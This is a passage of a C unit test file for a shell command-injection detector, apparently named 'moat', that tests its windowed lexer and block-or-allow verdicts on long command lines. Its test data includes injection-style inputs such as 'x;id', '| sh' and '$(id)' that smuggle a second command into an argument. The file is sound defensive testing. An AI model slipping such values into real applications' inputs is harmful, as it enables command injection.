	assert_int_equal(unq(in), MOAT_BLOCK);
	memcpy(in + o, " and", 5);
	assert_int_equal(unq(in), MOAT_ALLOW);
	/* the application's own long line before a short input */
	memcpy(head, "echo", 4);
	for (o = 4; o < 3000; o += 2)
		memcpy(head + o, " b", 2);
	memcpy(head + o, " ", 2);
	assert_int_equal(shell3("x;id", head, "x;id", ""), MOAT_BLOCK);
	assert_int_equal(shell3("x y", head, "x y", ""), MOAT_ALLOW);
	/* out of the quotes at the start, the operator 1,500 words later */
	memcpy(in, "x'", 2);
	for (o = 2; o < 3000; o += 2)
		memcpy(in + o, " a", 2);
	memcpy(in + o, " | sh '", 8);
	assert_int_equal(sq(in), MOAT_BLOCK);
	/* a substitution at the end of a long double-quoted input */
	memset(in, 'a', 3000);
	memcpy(in + 3000, " $(id)", 7);
	assert_int_equal(dq(in), MOAT_BLOCK);
	/* whether the line parses is known for all of it: a quote left open
	 * after 1,500 words keeps "; id" from running */
	for (o = 0; o < 3000; o += 2)
		memcpy(in + o, "a ", 2);
	memcpy(in + o, "; id", 5);
	assert_int_equal(shell3(in, "ping -c 1 ", in, " 'x"), MOAT_ALLOW);
	/* a line that cannot parse from its start (the lexer reads no further
	 * than its first window for that): a substitution 1,500 words later
	 * still fires, a separator does not, and the windows reach the end */
	memcpy(in, "| |", 3);
	for (o = 3; o < 3000; o += 2)
		memcpy(in + o, " a", 2);
	memcpy(in + o, " $(id)", 7);
	assert_int_equal(shell3(in, "ping -c 1 ", in, ""), MOAT_BLOCK);
	memcpy(in + o, " ; id", 6);
	assert_int_equal(shell3(in, "ping -c 1 ", in, ""), MOAT_ALLOW);
	{
		static struct ma_sh_lex lx;
		size_t n = strlen(in), last = 0;
		ma_sh_lex(in, n, &lx);
		assert_false(ma_sh_valid(&lx));
		assert_false(lx.complete);
		do
			last = lx.nel ? lx.el[lx.nel - 1].end : last;
		while (!lx.complete && ma_sh_lex_next(in, n, &lx));
		assert_false(ma_sh_valid(&lx));
		assert_int_equal(last, n);
	}
}

/* The rules about the input's first element (an operator before a
 * lowercase name, a redirection before a program's name) hold only where
 * the window holds the input's start: a window that begins at an operator
 * in the middle of a long input does not make it the first. */
static void the_first_element_of_a_long_input_is_its_own(void **state)
{
	static char in[4096];

	(void)state;
	for (int n = 60; n < 260; n++) {
		size_t o = 0;
		for (int i = 0; i < n; i++)
			o += (size_t)snprintf(in + o, sizeof in - o, "w ");
		o += (size_t)snprintf(in + o, sizeof in - o, "x; he said so");
		for (int i = 0; i < 60; i++)
			snprintf(in + o + 2 * (size_t)i, sizeof in - o - 2 * (size_t)i, " w");
		if (ns(in) != MOAT_ALLOW)
			fail_msg("\"; he\" after %d words fired", n);
		memcpy(in + o - 13, "x <id  he said", 14);
		if (ns(in) != MOAT_ALLOW)
			fail_msg("\"<id\" after %d words fired", n);
	}
}

/* Two inputs of one request in a line of many windows, the second before
 * the place the first left the tokenizer at: the check goes back (lexing
 * the line only up to the new window's end, its validity known from the
 * first lexing) and judges it as a check with that input alone does. */
/* 1 when two windows of a line hold the same elements and marks. */
static int same_window(const struct ma_sh_lex *x, const struct ma_sh_lex *y)
{
	if (x->nel != y->nel || x->nmark != y->nmark || x->complete != y->complete ||
	    x->dropped_at != y->dropped_at || x->has_snap != y->has_snap)
		return 0;
	for (int i = 0; i < x->nel; i++)
		if (x->el[i].start != y->el[i].start || x->el[i].end != y->el[i].end ||
		    x->el[i].kind != y->el[i].kind || x->el[i].flags != y->el[i].flags)
			return 0;
	for (int i = 0; i < x->nmark; i++)
		if (x->mark[i].start != y->mark[i].start || x->mark[i].end != y->mark[i].end ||
		    x->mark[i].kind != y->mark[i].kind || x->mark[i].flags != y->mark[i].flags ||
		    x->mark[i].pair != y->mark[i].pair)
			return 0;
	return 1;
}

/* A next window goes on from the lexer's state where an element started
 * (ma_sh_lex_next): it must be the window lexed from the line's start
 * (ma_sh_lex_from), also when the window before it was full inside one
 * element (a word of many globs, here-document bodies after their
 * newline, a << whose delimiter follows) and wherever in a line of
 * assignments, redirections and commands the window's end falls. */
static void a_next_window_is_the_window_lexed_from_the_start(void **state)
{
	static const char *const units[] = {
	    "a ",
	    "x=1 ",
	    "> f ",
	    "<<E\nbody\nE\n",
	    "cat <<-A <<B\n\tA\nb\nB\n",
	    "a*b?c[d] ",
	    "*?*?*?*?*?*?*?*?*?*?*?*?*?*?*?*?*?*?*?*?*?*?*?*?*?*?*?*?*?*?*?*?*?*?*?*?*?*?*?*?*?*?*?"
	    "*?*?*?*?*?*?*?*?*?*?*?*?*?*?*?*?*?*?*?*?*?*?*?*?*?*?*?*?*?*?*?*?*?*?*? ",
	    "'q' \"$v\" ",
	    "; ",
	    "cmd <<X arg\nX\n"};
	static char line[8192];
	static struct ma_sh_lex lx, ref;
	int checked = 0;

	(void)state;
	for (size_t u = 0; u < sizeof units / sizeof units[0]; u++)
		for (int pre = 90; pre <= 135; pre++) {
			size_t o = 0, n;
			/* pre one-byte words, then the unit over and over */
			for (int i = 0; i < pre; i++)
				o += (size_t)snprintf(line + o, sizeof line - o, "w ");
			while (o + strlen(units[u]) < 3000)
				o += (size_t)snprintf(line + o, sizeof line - o, "%s", units[u]);
			n = o;
			ma_sh_lex(line, n, &lx);
			for (int w = 0; w < 40 && lx.has_snap; w++) {
				size_t from = lx.snap_from;
				assert_int_equal(ma_sh_lex_next(line, n, &lx), 1);
				ma_sh_lex_from(line, n, from, &ref);
				if (!same_window(&lx, &ref))
					fail_msg(
					    "unit %zu after %d words: the window from %zu differs",
					    u, pre, from);
				checked++;
			}
		}
	assert_true(checked > 1000);
}

/* line: pre copies of prefix, then copies of unit while the line stays
 * under limit bytes; returns its length. */
static size_t repeat_line(char *line, size_t cap, const char *prefix, int pre, const char *unit,
                          size_t limit)
{
	size_t o = 0;

	for (int i = 0; i < pre; i++)
		o += (size_t)snprintf(line + o, cap - o, "%s", prefix);
	while (o + strlen(unit) < limit)
		o += (size_t)snprintf(line + o, cap - o, "%s", unit);
	return o;
}

/* A next window takes over the elements and marks its window before it
 * kept from where it starts (up to where that one was first full, at an
 * element's start) and lexes on from there (ma_sh_lex_next): it must be
 * the window lexed from the line's start, whichever elements, marks (the
 * word that did not fit has its own, left behind), operators of a line
 * that cannot parse, here-document delimiters or substitutions fall in
 * the part taken over, and wherever the place the window before it went
 * on from came from (its elements or its marks). */
static void a_next_window_takes_over_what_the_window_before_it_lexed(void **state)
{
	static const char *const pres[] = {"w ", "'w' ", "$w ", "a\"$b\"'c'`d` "};
	static const char *const units[] = {
	    ";|&<>( ",
	    "a;b ",
	    "'a'$b ",
	    "\"$(x y)\" ",
	    "x=$(a) <f ",
	    "'a''b''c''d' ",
	    "a 'b'\"c\" $d|e&&f ",
	    "c <<E arg\nE\n",
	    "{a,b} *.c 2>&1 ",
	    "x\\\ny $((1+2)) ${v:-$(id)} ",
	};
	static char line[8192];
	static struct ma_sh_lex lx, ref;
	int checked = 0;

	(void)state;
	for (size_t p = 0; p < sizeof pres / sizeof pres[0]; p++)
		for (size_t u = 0; u < sizeof units / sizeof units[0]; u++)
			for (int pre = 20; pre <= 135; pre += 1 + (int)p) {
				size_t n =
				    repeat_line(line, sizeof line, pres[p], pre, units[u], 2500);
				ma_sh_lex(line, n, &lx);
				for (int w = 0; w < 40 && lx.has_snap; w++) {
					size_t from = lx.snap_from;
					assert_int_equal(ma_sh_lex_next(line, n, &lx), 1);
					ma_sh_lex_from(line, n, from, &ref);
					if (!same_window(&lx, &ref) || lx.has_end != ref.has_end ||
					    (lx.has_snap && (lx.snap_at != ref.snap_at ||
					                     lx.snap_nel != ref.snap_nel ||
					                     lx.snap_nmark != ref.snap_nmark)) ||
					    (lx.has_end && lx.end_at != ref.end_at))
						fail_msg("prefix %zu unit %zu after %d: the window "
						         "from %zu differs",
						         p, u, pre, from);
					checked++;
				}
			}
	assert_true(checked > 5000);
}

/* A window that goes back to a place before the current one's start is
 * built from an earlier window that holds the place (ma_sh_lex_within):
 * it must be the window lexed from the line's start, for every place
 * (element starts, inside words and quotes, blanks) of every window of
 * lines of words, quotes, substitutions, operators, here-documents. */
static void a_window_kept_from_an_earlier_one_is_the_window_lexed_from_the_start(void **state)
{
	static const char *const pres[] = {"w ", "'w' ", "a\"$b\"'c'`d` "};
	static const char *const units[] = {
	    "a;b ",
	    ";|&<>( ",
	    "'a'$b ",
	    "\"$(x y)\" ",
	    "x=$(a) <f ",
	    "'a''b''c''d' ",
	    "c <<E arg\nE\n",
	    "{a,b} *.c 2>&1 ",
	    "a 'b'\"c\" $d|e&&f ",
	    "x\\\ny $((1+2)) ${v:-$(id)} ",
	};
	static char line[8192];
	static struct ma_sh_lex w, lx, ref;
	int checked = 0;

	(void)state;
	for (size_t p = 0; p < sizeof pres / sizeof pres[0]; p++)
		for (size_t u = 0; u < sizeof units / sizeof units[0]; u++)
			for (int pre = 0; pre <= 130; pre += 13) {
				size_t n =
				    repeat_line(line, sizeof line, pres[p], pre, units[u], 2000);
				ma_sh_lex(line, n, &w);
				for (int k = 0; k < 30; k++) {
					if (w.has_end)
						for (size_t from = w.from; from < w.end_at;
						     from += 3) {
							ma_sh_lex_from(line, n, from, &ref);
							lx.valid = ref.valid;
							lx.unterm = ref.unterm;
							if (!ma_sh_lex_within(line, n, from, &w,
							                      &lx))
								continue;
							if (!same_window(&lx, &ref) ||
							    lx.has_end != ref.has_end ||
							    lx.valid != ref.valid ||
							    lx.unterm != ref.unterm ||
							    (lx.has_snap &&
							     (lx.snap_at != ref.snap_at ||
							      lx.snap_from != ref.snap_from ||
							      lx.snap_nel != ref.snap_nel ||
							      lx.snap_nmark != ref.snap_nmark)) ||
							    (lx.has_end && lx.end_at != ref.end_at))
								fail_msg(
								    "prefix %zu unit %zu after %d: "
								    "the window from %zu differs",
								    p, u, pre, from);
							checked++;
						}
					if (!w.has_snap)
						break;
					ma_sh_lex_next(line, n, &w);
				}
			}
	assert_true(checked > 5000);
}

/* ma_sh_lex_within_from (the window from a later place taken from a
 * window lexed on past the kept one, nx, instead of lexing the line again)
 * gives what ma_sh_lex_within gives, but for the lexer's states: the same
 * elements and marks, the same first drop and the same places to go on
 * from, from every third byte of every window of lines of every kind of
 * element (quotes, substitutions, here-documents, braces, operators),
 * with nx the next window or a window lexed from the line's start; when
 * nx did not keep what the window needs it says so. */
static void a_window_taken_from_a_next_one_is_the_window_lexed_again(void **state)
{
	static const char *const pres[] = {"w ", "'w' ", "a\"$b\"'c'`d` "};
	static const char *const units[] = {
	    "a;b ",
	    ";|&<>( ",
	    "'a'$b ",
	    "\"$(x y)\" ",
	    "x=$(a) <f ",
	    "'a''b''c''d' ",
	    "c <<E arg\nE\n",
	    "{a,b} *.c 2>&1 ",
	    "a 'b'\"c\" $d|e&&f ",
	    "x\\\ny $((1+2)) ${v:-$(id)} ",
	    "'a''b''c''d''e''f''g''h''i''j''k''l' ",
	};
	static char line[8192];
	static struct ma_sh_lex w, nx, lx, ref;
	int checked = 0, refused = 0;

	(void)state;
	for (size_t p = 0; p < sizeof pres / sizeof pres[0]; p++)
		for (size_t u = 0; u < sizeof units / sizeof units[0]; u++)
			for (int pre = 0; pre <= 130; pre += 13) {
				size_t n =
				    repeat_line(line, sizeof line, pres[p], pre, units[u], 2000);
				ma_sh_lex(line, n, &w);
				for (int k = 0; k < 30; k++) {
					for (int v = 0; v < 2 && w.has_end; v++) {
						if (v == 0) {
							nx = w;
							if (!ma_sh_lex_next(line, n, &nx))
								continue;
						} else {
							ma_sh_lex_from(line, n, w.from, &nx);
						}
						for (size_t from = w.from; from < w.end_at;
						     from += 3) {
							ref.valid = lx.valid = w.valid;
							ref.unterm = lx.unterm = w.unterm;
							if (!ma_sh_lex_within_from(line, n, from,
							                           &w, &nx, &lx)) {
								refused++;
								continue;
							}
							if (!ma_sh_lex_within(line, n, from, &w,
							                      &ref))
								fail_msg(
								    "prefix %zu unit %zu after %d: "
								    "from %zu taken, not lexed",
								    p, u, pre, from);
							if (!same_window(&lx, &ref) ||
							    lx.has_end != ref.has_end ||
							    lx.from != ref.from ||
							    lx.valid != ref.valid ||
							    lx.unterm != ref.unterm ||
							    (lx.has_snap &&
							     (lx.snap_at != ref.snap_at ||
							      lx.snap_from != ref.snap_from ||
							      lx.snap_nel != ref.snap_nel ||
							      lx.snap_nmark != ref.snap_nmark)) ||
							    (lx.has_end && lx.end_at != ref.end_at))
								fail_msg(
								    "prefix %zu unit %zu after %d, "
								    "nx %d: "
								    "the window from %zu differs",
								    p, u, pre, v, from);
							checked++;
						}
					}
					if (!w.has_snap)
						break;
					ma_sh_lex_next(line, n, &w);
				}
			}
	print_message("%d windows taken, %d refused\n", checked, refused);
	assert_true(checked > 5000);
}

/* The input made of line[a, a + vl) (n bytes; vl cut at the line's end)
 * into in, NUL-terminated: its length, or 0 when under two bytes (an
 * input that short is never judged; in is left alone). */
static size_t slice_at(char *in, const char *line, size_t n, size_t a, size_t vl)
{
	if (a + vl > n)
		vl = n - a;
	if (vl < 2)
		return 0;
	memcpy(in, line + a, vl);
	in[vl] = '\0';
	return vl;
}

/* The verdict of [a, b) judged window after window, as the check judged
 * every place before the probe: the window lexed from a, then each next
 * one (ma_sh_lex_next; lexed again a little before where it stopped when
 * it cannot go on), until one fires or the windows are past b by their
 * overlap (48 bytes). The rule, or NULL. */
static const char *judged_by_windows(const char *s, size_t n, size_t a, size_t b)
{
	static struct ma_sh_lex lx;
	struct ma_sh_hit hit;

	ma_sh_lex_from(s, n, a, &lx);
	for (;;) {
		ma_sh_analyse(s, n, &lx, a, b, &hit);
		if (hit.fired)
			return hit.rule;
		if (lx.complete || lx.dropped_at >= b + 48)
			return NULL;
		if (!ma_sh_lex_next(s, n, &lx)) {
			size_t next = lx.dropped_at > 48 ? lx.dropped_at - 48 : 0;
			if (next <= lx.from)
				next = lx.from + 1;
			if (next > b)
				next = b;
			ma_sh_lex_from(s, n, next, &lx);
		}
	}
}

/* A line that cannot parse fires only on a command substitution that
 * starts in the input (ma_sh_judge); past its first window the check
 * lexes the rest of the input keeping nothing (ma_sh_probe_subst) instead
 * of judging window after window. Its verdict and rule must be those of
 * the windows judged one after the other, at every place of the input (up
 * to 64, in order), for inputs of 2 bytes to 1 KB anywhere in lines of up
 * to 4 KB of operators, words, quotes, substitutions that run, that do
 * not close or are empty, here-documents and comments, made unparsable by
 * "| |" or a parenthesis never closed. */
static void a_line_that_cannot_parse_is_probed_as_its_windows_judge_it(void **state)
{
	/* substitutions that run are rare, so that the first one of many
	 * inputs lies past their first window */
	static const char *const runs[] = {" \"$(d)\"", " $(id)",       " `u`",         " <(z)",
	                                   " >(z)",     " $((1+$(q)))", " ${v:-$(id)}", " x=$(a)"};
	static const char *const units[] = {
	    ";|&<>(",
	    " w",
	    " 'q;w'",
	    " ${x}",
	    " $v",
	    " <<E\nb $(no)\nE\n",
	    " # c $(no)\n",
	    " \\\n",
	    " 2>&1",
	    " *.c",
	    " {a,b}",
	    ";",
	    "|",
	    " & ",
	    " (",
	    ")",
	    " $'x'",
	    " \"a b\"",
	    " ``",
	    " $()",
	    " a b c d",
	    " <f >g",
	    " $(",
	    " `",
	};
	static char line[4200], in[1100];
	unsigned seed = 12345;
	int fired = 0, long_in = 0;

	(void)state;
	for (int t = 0; t < 1500; t++) {
		size_t n = 0, target, a, b, vl;
		const char *want = NULL;
		int seen = 0, plain = 1, v;
		struct moat_request *r;
		seed = seed * 1103515245u + 12345u;
		target = 200 + (seed >> 8) % 3800;
		if (t % 2)
			n = (size_t)snprintf(line, sizeof line, "x | | y");
		while (n < target) {
			size_t k;
			const char *u;
			seed = seed * 1103515245u + 12345u;
			k = (seed >> 8) % (sizeof units / sizeof units[0]);
			/* the unterminated ones rarely: they swallow the rest */
			if (k >= sizeof units / sizeof units[0] - 2 && (seed >> 20) % 16)
				k = 1;
			u = units[k];
			if ((seed >> 16) % 128 == 0)
				u = runs[(seed >> 24) % (sizeof runs / sizeof runs[0])];
			if (n + strlen(u) + 3 >= sizeof line)
				break;
			memcpy(line + n, u, strlen(u));
			n += strlen(u);
		}
		if (!(t % 2))
			line[n++] = '(';
		line[n] = '\0';
		seed = seed * 1103515245u + 12345u;
		a = (seed >> 8) % n;
		seed = seed * 1103515245u + 12345u;
		vl = slice_at(in, line, n, a, 2 + (seed >> 8) % 1023);
		if (!vl)
			continue;
		for (size_t k = 0; k < vl; k++)
			if (!((in[k] >= 'a' && in[k] <= 'z') || (in[k] >= 'A' && in[k] <= 'Z') ||
			      (in[k] >= '0' && in[k] <= '9') || in[k] == '_'))
				plain = 0;
		if (plain)
			continue; /* never judged */
		/* every place of the input, in order, up to 64; past them
		 * (bound64) a form that is not one inert word fails closed */
		for (size_t from = 0; from + vl <= n && !want;) {
			const char *at = memmem(line + from, n - from, in, vl);
			if (!at)
				break;
			from = (size_t)(at - line) + 1;
			if (seen++ == 64) {
				int inert = in[0] != '-';
				for (size_t k = 0; k < vl; k++)
					if ((unsigned char)in[k] < 0x80 &&
					    !isalnum((unsigned char)in[k]) &&
					    !strchr("_.,+@%:/-", in[k]))
						inert = 0;
				want = inert ? NULL : "cmd.too_many_places";
				break;
			}
			want = judged_by_windows(line, n, (size_t)(at - line),
			                         (size_t)(at - line) + vl);
		}
		r = req_with(in);
		v = moat_check_shell(r, line, n);
		b = a + vl;
		if (v != (want ? MOAT_BLOCK : MOAT_ALLOW) ||
		    (want && strcmp(moat_request_event(r)->rule, want)))
			fail_msg("case %d: [%zu, %zu) of %zu bytes: %s, the windows %s", t, a, b, n,
			         v == MOAT_BLOCK ? moat_request_event(r)->rule : "allowed",
			         want ? want : "allow");
		fired += want != NULL;
		long_in += vl > 600;
		moat_request_end(r);
	}
	assert_true(fired > 100);
	assert_true(long_in > 200);
}

/* Random lines for the tests below: "echo" and units of units[] to about
 * target bytes (the unit " ;id", which fires, one time in eight).
 * Returns the length. */
static size_t random_line(char *ln, size_t cap, unsigned *seed, const char *const *units,
                          size_t nunits, size_t target)
{
	size_t o = (size_t)snprintf(ln, cap, "echo");

	while (o < target) {
		const char *u;
		*seed = *seed * 1103515245u + 12345u;
		u = units[(*seed >> 8) % nunits];
		if (!strcmp(u, " ;id") && (*seed >> 20) % 8)
			u = " w";
		if (o + strlen(u) + 2 >= cap)
			break;
		memcpy(ln + o, u, strlen(u));
		o += strlen(u);
	}
	ln[o] = '\0';
	return o;
}

static const char *const name_units[] = {
    " a;b",           " a;zz",   " q|xx",  " w",      " x y z", ";Ab",     " 'x;y'",
    " c=1",           " a&&yy",  " ${x}",  "\nfoo",   " |bar",  " ;if zz", " ;for i",
    " ;nice -n 1 qq", " ;{a,b}", " ;/x/y", " ;c?t",   " ;{x}",  " ;$1 zz", " -o",
    " ;as if she",    " --x",    " ;id",   " >o.txt", " <in",   " *",      " ;timeout 5",
};

/* The answers the check keeps for the command names it judged
 * (ma_sh_memo: the next place or window that judges the same word takes
 * the answer) must give what judging each word again gives: in every
 * window of lines that parse (from each of their places and on), places
 * of 2 to 1,000 bytes judged with one memo for the whole line beside
 * ma_sh_analyse's own judging; words of every kind of name (programs,
 * text, prefixes, reserved words, assignments, paths, braces, globs) at
 * starts a few bytes apart, so that they share the memo's slots. */
/* 300 random lines of units (seed their first), 12 places each of 2 to
 * 1,000 bytes, each judged with ma_sh_analyse and with
 * ma_sh_analyse_memo (one memo for the line) in the window lexed from
 * the place -- or, with before, from up to 300 bytes before it, one time
 * in four -- and in each window after it; a place judged differently
 * fails.
 * *judged and *fired count the judgings and those that fired. */
static void memo_beside_plain(const char *const *units, size_t nunits, unsigned seed, int before,
                              int *judged, int *fired)
{
	static char line[4200];
	static struct ma_sh_lex lx;
	static struct ma_sh_memo memo;

	*judged = *fired = 0;
	for (int t = 0; t < 300; t++) {
		size_t n;
		seed = seed * 1103515245u + 12345u;
		n = random_line(line, sizeof line, &seed, units, nunits, 100 + (seed >> 8) % 3900);
		memo.ready = 0;
		for (int p = 0; p < 12; p++) {
			size_t a, b, from;
			seed = seed * 1103515245u + 12345u;
			a = (seed >> 8) % n;
			seed = seed * 1103515245u + 12345u;
			b = a + 2 + (seed >> 8) % ((seed >> 30) ? 1000 : 20);
			if (b > n)
				b = n;
			from = a;
			if (before) {
				seed = seed * 1103515245u + 12345u;
				if (!(seed >> 30))
					from = a - (a < 300 ? a : 300) * ((seed >> 8) % 100) / 100;
			}
			ma_sh_lex_from(line, n, from, &lx);
			for (int w = 0; w < 8; w++) {
				struct ma_sh_hit h1, h2;
				ma_sh_analyse(line, n, &lx, a, b, &h1);
				ma_sh_analyse_memo(line, n, &lx, a, b, &memo, &h2);
				if (h1.fired != h2.fired || h1.spans != h2.spans ||
				    (h1.fired && strcmp(h1.rule, h2.rule)))
					fail_msg(
					    "line %d, [%zu, %zu) in the window from %zu: %s, with "
					    "the memo %s",
					    t, a, b, lx.from, h1.fired ? h1.rule : "-",
					    h2.fired ? h2.rule : "-");
				*fired += h1.fired;
				(*judged)++;
				if (lx.complete || !ma_sh_lex_next(line, n, &lx))
					break;
			}
		}
	}
}

static void a_name_judged_again_takes_the_answer_kept(void **state)
{
	int fired, judged;

	(void)state;
	memo_beside_plain(name_units, sizeof name_units / sizeof name_units[0], 777, 0, &judged,
	                  &fired);
	assert_true(judged > 5000);
	assert_true(fired > 500);
}

static const char *const command_units[] = {
    " a;b",    " ;id",        " ;as if she laid", " ;which a b c", " w",
    " x y",    " >f",         " > f id",          " ;> f zz",      " ;{x}'y'",
    " ;{a,b}", " a|yy",       " a&&zz",           " ;nice -n 1",   " ;sudo -u",
    " ;if",    " ;c=1",       " ;PATH=/x",        "\nfoo",         " ;$1",
    " 'q'",    " ;man ls",    " ;go run",         " ;(zz)",        " ;Ab cd",
    " ;cat",   " ;x y z w v", " ;timeout 5",      " <in zz",       " a &q",
};

/* The answers the check keeps for the commands it judged (ma_sh_memo's
 * cmd_*: a command after an operator, or the input's own, judged again
 * by another place, input or window takes the answer) must give what
 * judging each command again gives: places of 2 to 1,000 bytes of random
 * lines judged with one memo for the whole line beside ma_sh_analyse's
 * own judging, in every window from the place on and in windows lexed
 * from before it (where a command may start the window, after a
 * redirection it does not hold: "> f id"), with commands of every kind:
 * programs, text, programs that look names up before words of text (their
 * answer takes the place's end), prefixes, reserved words, assignments,
 * braces (the window's marks), commands longer than a window's rest.
 * Planted faults this catches: an answer kept whatever the judging took
 * (the place's end, the window's end or marks), the name's element kept
 * as the command's first; a target told by the element before it (not
 * by its flag) at a window's first element. */
static void a_command_judged_again_takes_the_answer_kept(void **state)
{
	static struct ma_sh_lex lx;
	static struct ma_sh_memo memo;
	int fired, judged;
	/* a command that starts a window after a redirection the window
	 * does not hold: "f" is its target there too, "id" names it; the
	 * input's part judged from the target on (the name the
	 * application's): the same answer in both windows */
	static const char *const cuts[] = {"echo x; > f id; echo done", "echo x; > f 2>g id"};
	static const char *const places[] = {"f id", "f 2>g"};

	(void)state;
	for (int c = 0; c < 2; c++) {
		size_t fa = strlen("echo x; > "), fb = fa + strlen(places[c]);
		int first = -1;
		for (int order = 0; order < 2; order++) {
			memo.ready = 0;
			for (int w = 0; w < 2; w++) {
				struct ma_sh_hit h1, h2;
				ma_sh_lex_from(cuts[c], strlen(cuts[c]), (w ^ order) ? fa : 0, &lx);
				ma_sh_analyse(cuts[c], strlen(cuts[c]), &lx, fa, fb, &h1);
				ma_sh_analyse_memo(cuts[c], strlen(cuts[c]), &lx, fa, fb, &memo,
				                   &h2);
				if (c == 0)
					assert_true(h1.fired);
				if (first < 0)
					first = h1.fired;
				if (h1.fired != first || h1.fired != h2.fired)
					fail_msg("\"%s\", order %d, window from %zu: %d alone, %d "
					         "with the memo, %d in the other window",
					         cuts[c], order, lx.from, h1.fired, h2.fired,
					         first);
			}
		}
	}
	memo_beside_plain(command_units, sizeof command_units / sizeof command_units[0], 991, 1,
	                  &judged, &fired);
	assert_true(judged > 5000);
	assert_true(fired > 1000);
}

/* A name with an unquoted '{' is judged with the window's marks
 * (ma_sh_word_name_of: a brace mark there, or a window that dropped a
 * mark before the word's end, where the mark may have been): such an
 * answer is the window's, not the word's, and the memo must not keep it.
 * "{X}'y'" after "z ;" is no program where the window holds all its marks,
 * and may be one (cmd.separator) where the window filled up with marks
 * inside it; judged in both windows, in both orders, with one memo, each
 * must be judged as ma_sh_analyse judges it alone. */
static void a_name_with_a_brace_is_judged_again_in_each_window(void **state)
{
	static char line[600];
	static struct ma_sh_lex full, whole;
	struct ma_sh_memo memo;
	struct ma_sh_hit h, hm;
	size_t n = 0, a, b;

	(void)state;
	n += (size_t)snprintf(line + n, sizeof line - n, "echo ");
	for (int i = 0; i < MA_SH_MAX_MARK / 2; i++) /* one word of 128 quote marks */
		n += (size_t)snprintf(line + n, sizeof line - n, "'a'");
	a = n + 1;
	n += (size_t)snprintf(line + n, sizeof line - n, " z ; {X}'y'");
	b = n;
	n += (size_t)snprintf(line + n, sizeof line - n, " end");
	ma_sh_lex_from(line, n, 0, &full);  /* full of marks before "'y'" */
	ma_sh_lex_from(line, n, a, &whole); /* from "z": every mark of the input */
	assert_true(full.dropped_at < b && full.dropped_at > a);
	assert_true(whole.complete);
	ma_sh_analyse(line, n, &full, a, b, &h);
	assert_true(h.fired);
	assert_string_equal(h.rule, "cmd.separator");
	ma_sh_analyse(line, n, &whole, a, b, &h);
	assert_false(h.fired);
	for (int order = 0; order < 2; order++) {
		const struct ma_sh_lex *w[2] = {order ? &whole : &full, order ? &full : &whole};
		memo.ready = 0;
		for (int k = 0; k < 2; k++) {
			ma_sh_analyse(line, n, w[k], a, b, &h);
			ma_sh_analyse_memo(line, n, w[k], a, b, &memo, &hm);
			if (h.fired != hm.fired || (h.fired && strcmp(h.rule, hm.rule)))
				fail_msg("order %d, window %d: %s alone, %s with the memo", order,
				         k, h.fired ? h.rule : "-", hm.fired ? hm.rule : "-");
		}
	}
}

/* The check keeps the names' answers for one line (ma_sh_memo, in the
 * request's scratch): a request that checked another line before must
 * judge this one as a fresh request does. */
static void a_request_judges_a_line_alike_after_another_line(void **state)
{
	static char line[4200], other[4200], in[64];
	unsigned seed = 4242;
	int fired = 0;

	(void)state;
	for (int t = 0; t < 400; t++) {
		size_t n, no, a, vl;
		struct moat_request *fresh, *r;
		int v1, v2;
		seed = seed * 1103515245u + 12345u;
		no =
		    random_line(other, sizeof other, &seed, name_units,
		                sizeof name_units / sizeof name_units[0], 100 + (seed >> 8) % 3900);
		n = random_line(line, sizeof line, &seed, name_units,
		                sizeof name_units / sizeof name_units[0], 100 + (seed >> 8) % 3900);
		seed = seed * 1103515245u + 12345u;
		a = (seed >> 8) % n;
		vl = slice_at(in, line, n, a, 2 + (seed >> 24) % 12);
		if (!vl)
			continue;
		fresh = req_with(in);
		r = req_with(in);
		v1 = moat_check_shell(fresh, line, n);
		if (moat_check_shell(r, other, no) == MOAT_BLOCK) {
			moat_request_end(r); /* stopped there: another request */
			r = req_with(in);
		}
		v2 = moat_check_shell(r, line, n);
		if (v1 != v2)
			fail_msg("case %d: %d fresh, %d after another line", t, v1, v2);
		fired += v1 == MOAT_BLOCK;
		moat_request_end(fresh);
		moat_request_end(r);
	}
	assert_true(fired > 50);
}

static void an_input_before_the_last_window_is_judged_alike(void **state)
{
	static char cmd[8192], late[2048];
	static const char *const early[] = {"x; id", "x y", "x $(id)", "x 'y'"};
	size_t o;

	(void)state;
	/* a long late input: judging it moves through several windows */
	for (o = 0; o < 1200; o += 2)
		memcpy(late + o, "v ", 2);
	late[o] = '\0';
	for (size_t k = 0; k < sizeof early / sizeof early[0]; k++) {
		for (int gap = 10; gap <= 1500; gap *= 5) {
			struct moat_request *r = req_with(late), *alone = req_with(early[k]);
			int v, va;
			o = (size_t)snprintf(cmd, sizeof cmd, "echo");
			for (int i = 0; i < gap; i++)
				o += (size_t)snprintf(cmd + o, sizeof cmd - o, " w");
			snprintf(cmd + o, sizeof cmd - o, " %s w w w %s end", early[k], late);
			assert_int_equal(moat_request_add_input(r, MOAT_INPUT_QUERY, "q", early[k],
			                                        strlen(early[k])),
			                 0);
			v = moat_check_shell(r, cmd, (size_t)-1);
			va = moat_check_shell(alone, cmd, (size_t)-1);
			if (v != va)
				fail_msg("%s after %d words: %d, alone %d", early[k], gap, v, va);
			assert_int_equal(v, k == 0 || k == 2 ? MOAT_BLOCK : MOAT_ALLOW);
			moat_request_end(r);
			moat_request_end(alone);
		}
	}
	/* one input at many places, as data in quotes and then unquoted: the
	 * windows move on to judge what follows a place and come back for
	 * the next place */
	for (int n = 1; n <= 30; n += 29) { /* 2n + 1 places: up to 64 are judged */
		o = (size_t)snprintf(cmd, sizeof cmd, "echo");
		for (int i = 0; i < n; i++)
			o += (size_t)snprintf(cmd + o, sizeof cmd - o, " 'q;id' \"q;id\" w w w w");
		snprintf(cmd + o, sizeof cmd - o, " q;id end");
		assert_int_equal(shell3("q;id", cmd, "", ""), MOAT_BLOCK);
		snprintf(cmd + o, sizeof cmd - o, " 'q;id' end");
		assert_int_equal(shell3("q;id", cmd, "", ""), MOAT_ALLOW);
	}
}

/* A later place of an input in the same window looks for its first
 * element on from the place before's (their ends only grow) instead of
 * searching the window again: an element that ends exactly where the
 * input starts ("x" before ";zzq" in x;zzq) is not the input's, so the
 * separator is its first element and it fires (an input that begins with
 * a separator before a lowercase name), as the same place does when it is
 * the first; after 1 to 40 places of data in quotes before it. */
static void a_later_place_finds_its_first_element_as_the_first_does(void **state)
{
	static char cmd[4096];
	static const char *const inputs[] = {";zzq", "|zzq", "&&zzq", "||zzq", "&zzq"};
	static const char *const before[] = {"x", "'x'", "a=1", "$v", "\"x\""};

	(void)state;
	for (size_t i = 0; i < sizeof inputs / sizeof inputs[0]; i++)
		for (size_t k = 0; k < sizeof before / sizeof before[0]; k++)
